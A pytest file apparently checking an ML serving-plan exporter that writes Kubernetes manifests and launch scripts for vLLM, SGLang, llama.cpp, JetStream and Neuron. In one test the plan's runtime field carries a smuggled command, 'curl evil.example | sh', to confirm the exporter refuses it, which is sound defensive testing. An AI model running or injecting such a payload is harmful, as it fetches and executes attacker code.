"""Exports an engineer would have run into trouble with (an audit of every example's plans in every
format, 2026-12-05). Basis: the engines' published argument names (tests/fixtures/engine_args), the
Kubernetes OpenAPI schemas and naming rules (RFC 1035 labels), and what the shell hands the engine.
"""

from __future__ import annotations

import os
import re
import subprocess
from typing import Any

import pytest
import yaml
from test_export import WORKLOAD, engine_options, result, validate_core

from hardware_catalog import load_catalog
from hardware_catalog.export import ExportError, export
from hardware_catalog.export.engines import LORA_RANK
from planner.levers.finetune import DEFAULT_RANK

LABEL = re.compile(r"^[a-z]([-a-z0-9]{0,61}[a-z0-9])?$")  # RFC 1035: what a Service name must be


@pytest.fixture(scope="module")
def catalog() -> Any:
    return load_catalog(None)


def _adapted(model: str, runtime: str, hw: str, adaptation: str) -> Any:
    formats = {"precision": "int4", "kv": "int8"} if runtime == "llama.cpp" else {}  # (GGUF types)
    doc = result(model, runtime, [(hw, 1, 1, 2)], **formats)
    return doc.model_copy(update={"plans": [doc.plans[0].model_copy(update={"adaptation": adaptation})]})


def _expanded(script: str, env: dict[str, str]) -> list[str]:
    """The argv the shell would hand the engine: the script's exec line run through printf."""
    line = next(x for x in script.splitlines() if x.startswith("exec "))
    out = subprocess.run(["sh", "-c", "printf '%s\\n' " + line.removeprefix("exec ")], env={**os.environ, **env},
                         capture_output=True, text=True, check=True).stdout
    return out.splitlines()


@pytest.mark.parametrize("name", ["disaggregated-long-prompt-summaries-for-legal-team-production-" + "x" * 40,
                                  "2025-chatbot"])
def test_kubernetes_names_stay_distinct_valid_labels(catalog: Any, name: str) -> None:
    # three deployments of one plan once got the same 50-character name (the last one won on apply), and a
    # name starting with a digit is no Service name
    doc = result("llama-3.1-70b", "vllm", [("h100-sxm", 4, 1, 2), ("h100-sxm", 8, 1, 1), ("mi300x", 2, 1, 1)])
    doc = doc.model_copy(update={"workload": name})
    (artifact,) = export(doc, catalog, "k8s", workload=WORKLOAD)
    docs = list(yaml.safe_load_all(artifact.content))
    names = [d["metadata"]["name"] for d in docs if d["kind"] == "Deployment"]
    assert len(set(names)) == 3 and all(LABEL.match(n) for n in names), names
    services = [d for d in docs if d["kind"] == "Service"]
    assert len({s["metadata"]["name"] for s in services}) == 3


@pytest.mark.parametrize(("fmt", "runtime", "hw", "flags"), [
    ("vllm", "vllm", "h100-sxm", {"enable_lora": True, "max_lora_rank": str(DEFAULT_RANK)}),
    ("sglang", "sglang", "h100-sxm", {}),
    ("llama.cpp", "llama.cpp", "rtx-4090", {}),
])
def test_a_lora_plan_loads_its_adapter(catalog: Any, fmt: str, runtime: str, hw: str, flags: dict[str, Any]) -> None:
    # it exported the base model alone: the engine served the unadapted quality the plan was not ranked on
    (artifact,) = export(_adapted("llama-3.1-8b", runtime, hw, "lora"), catalog, fmt, workload=WORKLOAD)
    options = engine_options(fmt, artifact.content)
    assert {k: options[k] for k in flags} == flags
    argv = _expanded(artifact.content, {"LORA_ADAPTER": "/adapters/support"})
    assert any(a.endswith("/adapters/support") for a in argv), argv  # the shell fills the path in
    assert "# set LORA_ADAPTER" in artifact.content
    assert LORA_RANK == DEFAULT_RANK


def test_engines_that_cannot_load_an_adapter_refuse_and_full_fine_tunes_load_their_checkpoint(catalog: Any) -> None:
    with pytest.raises(ExportError, match="does not load with trtllm"):
        export(_adapted("llama-3.1-8b", "tensorrt-llm", "h100-sxm", "lora"), catalog, "trtllm", workload=WORKLOAD)
    (artifact,) = export(_adapted("llama-3.1-8b", "vllm", "h100-sxm", "full"), catalog, "vllm", workload=WORKLOAD)
    argv = _expanded(artifact.content, {"MODEL_PATH": "/ckpt/full"})
    assert argv[:3] == ["vllm", "serve", "/ckpt/full"]  # not meta-llama/Llama-3.1-8B


def test_a_lora_plans_manifest_declares_the_adapter_for_the_operator(catalog: Any) -> None:
    (artifact,) = export(_adapted("llama-3.1-8b", "vllm", "h100-sxm", "lora"), catalog, "k8s", workload=WORKLOAD)
    docs = list(yaml.safe_load_all(artifact.content))
    validate_core(docs)
    container = docs[0]["spec"]["template"]["spec"]["containers"][0]
    assert {"name": "LORA_ADAPTER", "value": ""} in container["env"]
    assert any("$(LORA_ADAPTER)" in a for a in container["args"])  # Kubernetes expands $(NAME) from the env


def test_vllm_on_neuron_chips_is_the_neuron_backend(catalog: Any) -> None:
    doc = result("llama-3.1-8b", "vllm", [("trainium2", 1, 1, 2)])
    with pytest.raises(ExportError, match="--format neuron"):
        export(doc, catalog, "vllm", workload=WORKLOAD)
    (artifact,) = export(doc, catalog, "k8s", workload=WORKLOAD)
    container = next(yaml.safe_load_all(artifact.content))["spec"]["template"]["spec"]["containers"][0]
    assert "neuron" in container["image"] and "--device" in container["args"]


def test_jetstream_loads_its_checkpoint_and_the_models_tokenizer(catalog: Any) -> None:
    # the checkpoint path reached MaxText as the literal text ${MAXTEXT_CHECKPOINT}, and Llama 3 got Llama 2's
    # tokenizer (base.yml's default)
    doc = result("llama-3.1-8b", "jetstream", [("tpu-v5e", 4, 1, 2)])
    (artifact,) = export(doc, catalog, "jetstream", workload=WORKLOAD)
    options = engine_options("jetstream", artifact.content)
    assert options["tokenizer_path"] == "assets/tokenizer_llama3.tiktoken" and options["tokenizer_type"] == "tiktoken"
    argv = _expanded(artifact.content, {"MAXTEXT_CHECKPOINT": "gs://bucket/llama3.1-8b"})
    assert "load_parameters_path=gs://bucket/llama3.1-8b" in argv


def test_a_multi_node_replicas_service_reaches_its_leaders_only(catalog: Any) -> None:
    (artifact,) = export(result("llama-3.1-70b", "vllm", [("h100-sxm", 8, 2, 2)]), catalog, "k8s", workload=WORKLOAD)
    service = next(d for d in yaml.safe_load_all(artifact.content) if d["kind"] == "Service")
    assert service["spec"]["selector"]["leaderworkerset.sigs.k8s.io/worker-index"] == "0"


def test_a_hostile_plan_file_cannot_add_a_command_or_a_zero_shape(catalog: Any) -> None:
    doc = result("llama-3.1-8b", "vllm", [("h100-sxm", 1, 1, 1)])
    evil = doc.plans[0].model_copy(update={"runtime": "vllm\ncurl evil.example | sh"})
    hostile = doc.model_copy(update={"plans": [evil]})
    for fmt in ("k8s", "vllm"):  # a runtime the catalog lacks is refused before any file is written
        with pytest.raises(ExportError, match="not in this catalog") as err:
            export(hostile, catalog, fmt, workload=WORKLOAD)
        assert "\n" not in str(err.value)  # the id is quoted (repr), its newline escaped
    zero = doc.model_copy(update={"plans": [doc.plans[0].model_copy(update={"deployments": [
        doc.plans[0].deployments[0].model_copy(update={"tp": 0})]})]})
    with pytest.raises(ExportError, match="at least 1"):
        export(zero, catalog, "vllm", workload=WORKLOAD)


def test_kserve_names_its_port_for_knative_and_neuron_counts_logical_cores(catalog: Any) -> None:
    # Knative (KServe serverless) takes only http1 or h2c as a port name; Trainium2 exposes 4 logical
    # NeuronCores by default (LNC=2), not its 8 physical ones; JetStream's per-device batch rounds up
    (artifact,) = export(result("llama-3.1-8b", "vllm", [("h100-sxm", 1, 1, 2)]), catalog, "kserve", workload=WORKLOAD)
    isvc = next(yaml.safe_load_all(artifact.content))
    assert isvc["spec"]["predictor"]["containers"][0]["ports"][0]["name"] == "http1"
    (script,) = export(result("llama-3.1-8b", "neuronx", [("trainium2", 2, 1, 1)]), catalog, "neuron",
                       workload=WORKLOAD)
    assert engine_options("neuron", script.content)["tensor_parallel_size"] == "8"  # 2 chips x 4
    doc = result("llama-3.1-8b", "jetstream", [("tpu-v5e", 4, 1, 1)])
    doc = doc.model_copy(update={"plans": [doc.plans[0].model_copy(update={"deployments": [
        doc.plans[0].deployments[0].model_copy(update={"max_batch": 63})]})]})
    (script,) = export(doc, catalog, "jetstream", workload=WORKLOAD)
    assert engine_options("jetstream", script.content)["per_device_batch_size"] == "16"  # 4 x 16 >= 63


def test_maxtext_refuses_slots_it_cannot_allocate(catalog: Any) -> None:
    """MaxText has no paged KV cache by default (runtimes.yaml jetstream features.paged_kv): it allocates
    per_device_batch_size x chips slots of max_target_length tokens at start. Llama 3.1 8B's cache is 2 x 32
    layers x 8 KV heads x 128 x 2 bytes = 131,072 B a token (its config.json); the workload's slot is 3,072 + 512
    tokens (p95 prompt and output in steps of 256), so 256 slots hold 120.3 GB, 30.1 GB on each of 4 v5e chips
    beside its 4.0 GB of weights, past its 16 GB; 64 slots (7.5 GB a chip) fit."""
    from test_export import result

    doc = result("llama-3.1-8b", "jetstream", [("tpu-v5e", 4, 1, 1)])
    export(doc, catalog, "jetstream", workload=WORKLOAD)  # 64 slots
    big = _edited(doc, 0, max_batch=256)
    kv = 256 * 3584 * 2 * 32 * 8 * 128 * 2 / 4 / 1e9  # (8 KV heads over tp 4: 2 a chip)
    with pytest.raises(ExportError, match=rf"MaxText would allocate {kv:.1f} GB of KV cache per chip \(256 slots x "
                                          r"3,584"):
        export(big, catalog, "jetstream", workload=WORKLOAD)


@pytest.mark.parametrize(("runtime", "hw", "image", "note"), [
    ("vllm", "mi300x", "rocm/vllm", False),  # AMD's ROCm build, not the CUDA one
    ("vllm", "h100-sxm", "vllm/vllm-openai", False),
    ("sglang", "mi300x", "lmsysorg/sglang", True),  # no ROCm build named: the manifest says so
    ("llama.cpp", "rtx-4090", "ghcr.io/ggml-org/llama.cpp:server-cuda", False),  # :server is the CPU build
])
def test_a_pods_image_is_the_engines_build_for_the_chips_vendor(catalog: Any, runtime: str, hw: str, image: str,
                                                                note: bool) -> None:
    formats = {"precision": "int4", "kv": "int8"} if runtime == "llama.cpp" else {}
    (artifact,) = export(result("llama-3.1-8b", runtime, [(hw, 1, 1, 1)], **formats), catalog, "k8s",
                         workload=WORKLOAD)
    container = next(yaml.safe_load_all(artifact.content))["spec"]["template"]["spec"]["containers"][0]
    assert container["image"] == image
    assert ("NVIDIA (CUDA) build" in artifact.content) == note


def test_a_replica_over_several_nodes_is_no_launch_script(catalog: Any) -> None:
    # "run one per replica" on one node cannot start a 16-chip replica of 8-chip nodes (no Ray, no ranks)
    doc = result("llama-3.1-70b", "vllm", [("h100-sxm", 8, 2, 1)])
    with pytest.raises(ExportError, match="spans 2 nodes"):
        export(doc, catalog, "vllm", workload=WORKLOAD)
    (artifact,) = export(doc, catalog, "lws", workload=WORKLOAD)  # the cluster formats start it over Ray
    assert "ray start --head" in artifact.content


def test_second_audit_findings(catalog: Any) -> None:
    # Neuron (as TensorRT-LLM and JetStream) has no adapter flags written: a LoRA plan is refused there
    with pytest.raises(ExportError, match="does not load with neuron"):
        export(_adapted("llama-3.1-8b", "neuronx", "inferentia2", "lora"), catalog, "neuron", workload=WORKLOAD)
    # an engine the chip's catalog entry does not list is refused (trtllm on MI300X ran the CUDA image)
    with pytest.raises(ExportError, match="does not run on mi300x"):
        export(result("llama-3.1-8b", "sglang", [("mi300x", 1, 1, 1)]), catalog, "trtllm", workload=WORKLOAD)
    # names: ASCII, and short enough for what KServe and LWS derive from them ("<name>-predictor")
    doc = result("llama-3.1-70b", "vllm", [("h100-sxm", 4, 1, 2)]).model_copy(
        update={"workload": "Ünïcode Wörkload ñ " + "x" * 80})
    for fmt in ("k8s", "lws", "kserve"):
        (artifact,) = export(doc, catalog, fmt, workload=WORKLOAD)
        names = {d["metadata"]["name"] for d in yaml.safe_load_all(artifact.content)}
        assert all(LABEL.match(n) and len(n) <= 47 and n.startswith("unicode-workload") for n in names), names
        assert artifact.name.isascii()


def test_jetstream_serves_grpc_on_9000_and_llama_cpp_runs_its_image_binary(catalog: Any) -> None:
    doc = result("llama-3.1-8b", "jetstream", [("tpu-v5e", 4, 1, 1)])
    docs = list(yaml.safe_load_all(export(doc, catalog, "k8s", workload=WORKLOAD)[0].content))
    port = docs[0]["spec"]["template"]["spec"]["containers"][0]["ports"][0]
    service = next(d for d in docs if d["kind"] == "Service")["spec"]["ports"][0]
    assert (port["name"], port["containerPort"]) == ("grpc", 9000) and service["port"] == 9000
    llama = result("llama-3.1-8b", "llama.cpp", [("rtx-4090", 1, 1, 1)], precision="int4", kv="int8")
    container = next(yaml.safe_load_all(export(llama, catalog, "k8s", workload=WORKLOAD)[0].content))[
        "spec"]["template"]["spec"]["containers"][0]
    assert container["command"] == ["/app/llama-server"]  # the image's binary: /app is not on its PATH
    full = _adapted("llama-3.1-8b", "llama.cpp", "rtx-4090", "full")
    (script,) = export(full, catalog, "llama.cpp", workload=WORKLOAD)
    assert _expanded(script.content, {"MODEL_PATH": "/ckpt/ft.gguf"})[2] == "/ckpt/ft.gguf"


# ---- an operator's audit of the exports (2026-12-07): what would not start, against the engines' own code ----

def _edited(doc: Any, deployment: int, **fields: Any) -> Any:
    """``doc`` (a PlanResultOut, frozen) with fields of its plan 1's deployment ``deployment`` replaced."""
    data = doc.model_dump(mode="json")
    data["plans"][0]["deployments"][deployment].update(fields)
    data["pareto"] = [data["plans"][0]]
    return type(doc).model_validate(data)


def test_a_16_bit_plan_on_a_chip_without_bf16_is_served_as_float16(catalog: Any) -> None:
    # vLLM's _check_if_gpu_supports_dtype refuses bfloat16 below compute capability 8.0 (the T4 is 7.5)
    from test_export import result

    (t4,) = export(result("qwen2.5-1.5b", "vllm", [("t4", 1, 1, 1)]), catalog, "vllm", workload=WORKLOAD)
    assert engine_options("vllm", t4.content)["dtype"] == "float16"
    (h100,) = export(result("qwen2.5-1.5b", "vllm", [("h100-sxm", 1, 1, 1)]), catalog, "vllm", workload=WORKLOAD)
    assert engine_options("vllm", h100.content)["dtype"] == "bfloat16"


def test_the_t4_plans_no_fp8(catalog: Any) -> None:
    # SGLang's and vLLM's Fp8Config need compute capability 8.0; the T4 is 7.5: an fp8 plan there cannot start
    assert "fp8" in catalog.get_hardware("t4").unsupported_precisions


@pytest.mark.parametrize("fmt", ["vllm", "sglang"])
def test_fp8_quantised_at_load_needs_the_16_bit_shard_to_fit(catalog: Any, fmt: str) -> None:
    # both engines load a 16-bit checkpoint whole before quantising it: qwen2.5-14b's 29.4 GB on one 24 GB L4
    # runs out of memory at load, so that plan loads an FP8 checkpoint quantised beforehand (it was refused before
    # `--format quantise`); on two L4s (14.8 GB each) it is quantised at load; DeepSeek-V3 is published in FP8
    from test_export import engine_options, result

    runtime = {"vllm": "vllm", "sglang": "sglang"}[fmt]
    model = {"vllm": "model", "sglang": "model_path"}[fmt]
    one = engine_options(fmt, export(result("qwen2.5-14b", runtime, [("l4", 1, 1, 1)], precision="fp8"), catalog, fmt,
                                     workload=WORKLOAD)[0].content)
    assert one[model] == "${QUANTISED_CHECKPOINT}" and one.get("quantization") is None
    two = engine_options(fmt, export(result("qwen2.5-14b", runtime, [("l4", 2, 1, 1)], precision="fp8"), catalog, fmt,
                                     workload=WORKLOAD)[0].content)
    assert two[model] == "Qwen/Qwen2.5-14B" and two["quantization"] == "fp8"
    v3 = engine_options(fmt, export(result("deepseek-v3", runtime, [("h200", 8, 1, 1)], precision="fp8"), catalog,
                                    fmt, workload=WORKLOAD)[0].content)
    assert v3[model] == "deepseek-ai/DeepSeek-V3" and v3.get("quantization") is None  # read from its config.json


def test_llama_cpp_refuses_a_context_it_cannot_allocate(catalog: Any) -> None:
    # its --ctx-size is allocated whole at start (every slot's context) and -c / -ngl are set, so --fit does not
    # adjust them: 64 slots of qwen2.5-7b's 3,584-token p95 context at q8_0 fit a 24 GB RTX 4090; 400 do not
    from test_export import result

    doc = result("qwen2.5-7b", "llama.cpp", [("rtx-4090", 1, 1, 1)], precision="int4", kv="int8")
    export(doc, catalog, "llama.cpp", workload=WORKLOAD)
    big = _edited(doc, 0, max_batch=400)
    with pytest.raises(ExportError, match="llama.cpp would allocate .* GB of KV cache per chip \\(400 slots"):
        export(big, catalog, "llama.cpp", workload=WORKLOAD)


def test_manifests_carry_the_traffic_split_a_token_and_shared_memory(catalog: Any) -> None:
    from test_export import result

    doc = result("llama-3.1-8b", "vllm", [("h100-sxm", 2, 1, 2), ("l40s", 1, 1, 7)])
    doc = _edited(_edited(doc, 0, requests_per_s_per_replica=18.8), 1, requests_per_s_per_replica=3.2)
    (artifact,) = export(doc, catalog, "k8s", workload=WORKLOAD)
    assert "18.8 requests/s per replica x 2 = 63%" in artifact.content
    assert "3.2 requests/s per replica x 7 = 37%" in artifact.content
    docs = [d for d in yaml.safe_load_all(artifact.content) if d["kind"] == "Deployment"]
    h100, l40s = (d["spec"]["template"]["spec"] for d in docs)
    assert h100["volumes"] == [{"name": "dshm", "emptyDir": {"medium": "Memory"}}]  # tp 2 in one pod
    assert "volumes" not in l40s
    for spec in (h100, l40s):
        env = {e["name"]: e for e in spec["containers"][0]["env"]}
        assert env["HF_TOKEN"]["valueFrom"]["secretKeyRef"] == {"name": "hf-token", "key": "token", "optional": True}
    validate_core(list(yaml.safe_load_all(artifact.content)))


def test_maxtext_int8_loads_a_quantised_checkpoint_where_the_bf16_shard_does_not_fit(catalog: Any) -> None:
    """MaxText restores a bf16 checkpoint and quantises it after (checkpoint_is_quantized=False). Llama 2 70B's bf16
    weights are 2 x 69.0e9 bytes: over 8 TPU v5e that is 17.2 GB a chip, past its 16 GB (a new-user audit found the
    export asking for it); the replica then loads an int8 checkpoint (checkpoint_is_quantized=True, its own
    placeholder, said at the top of the script). Llama 3.1 8B over 4 v5e (4.0 GB a chip) still quantises at load."""
    (big,) = export(result("llama-2-70b", "jetstream", [("tpu-v5e", 8, 1, 1)], precision="int8", kv="int8"), catalog,
                    "jetstream", workload=WORKLOAD)
    options = engine_options("jetstream", big.content)
    assert options["checkpoint_is_quantized"] == "True"
    assert options["load_parameters_path"] == "${MAXTEXT_QUANTISED_CHECKPOINT}"
    assert "# set MAXTEXT_QUANTISED_CHECKPOINT: that MaxText checkpoint quantised to int8" in big.content
    (small,) = export(result("llama-3.1-8b", "jetstream", [("tpu-v5e", 4, 1, 1)], precision="int8", kv="int8"),
                      catalog, "jetstream", workload=WORKLOAD)
    options = engine_options("jetstream", small.content)
    assert options["checkpoint_is_quantized"] == "False"
    assert options["load_parameters_path"] == "${MAXTEXT_CHECKPOINT}"


def test_llama_cpp_writes_an_fp32_kv_cache(catalog: Any) -> None:
    """llama-server's --cache-type-k / -v take f32 (tools/server/README.md: 'allowed values: f32, f16, bf16, q8_0,
    ...'): a plan with an fp32 KV cache was refused as 'no fp32 KV cache type'."""
    (script,) = export(result("llama-3.2-1b", "llama.cpp", [("rtx-4090", 1, 1, 1)], precision="fp16", kv="fp32"),
                       catalog, "llama.cpp", workload=WORKLOAD)
    options = engine_options("llama.cpp", script.content)
    assert options["cache_type_k"] == "f32" and options["cache_type_v"] == "f32"



def test_neuron_counts_its_ranks_in_neuroncores_and_replicates_kv_heads(catalog: Any) -> None:
    """vLLM on Neuron runs --tensor-parallel-size in NeuronCores (4 a Trainium2 by default): Llama 3.1 70B's 8 KV
    heads over 4 chips' 16 ranks are replicated 2x, so each chip holds 4 heads' cache, not 2 (a new-user audit:
    173 slots passed the check at the unreplicated size). Basis: the model's shape, 2 x 80 layers x 128 dims x
    2 bytes a head and token, and the chips' NeuronCore counts (AWS Neuron architecture docs)."""
    from planner.model.attention import kv_cache_bytes

    model = catalog.get_model("llama-3.1-70b")
    per_head = 2 * 80 * 128 * 2
    assert float(kv_cache_bytes(model, 1.0, 2.0, tp=4, ranks_per_chip=4)) == 4 * per_head  # 16 ranks, 8 heads
    assert float(kv_cache_bytes(model, 1.0, 2.0, tp=4)) == 2 * per_head  # 4 GPUs: 2 heads each
    assert float(kv_cache_bytes(model, 1.0, 2.0, tp=2, ranks_per_chip=4)) == 4 * per_head  # 8 ranks, 1 head each
    doc = result("llama-3.1-70b", "neuronx", [("trainium2", 4, 1, 1)])
    export(doc, catalog, "neuron", workload=WORKLOAD)  # 64 slots of 3,584 tokens: 37.6 GB a chip beside 35.3
    big = _edited(doc, 0, max_batch=173)
    kv = 173 * 3584 * 4 * per_head / 1e9  # 101.6 GB: with the weights, past a Trainium2's 103.1 GB
    with pytest.raises(ExportError, match=rf"vLLM on Neuron would allocate {kv:.1f} GB of KV cache per chip"):
        export(big, catalog, "neuron", workload=WORKLOAD)
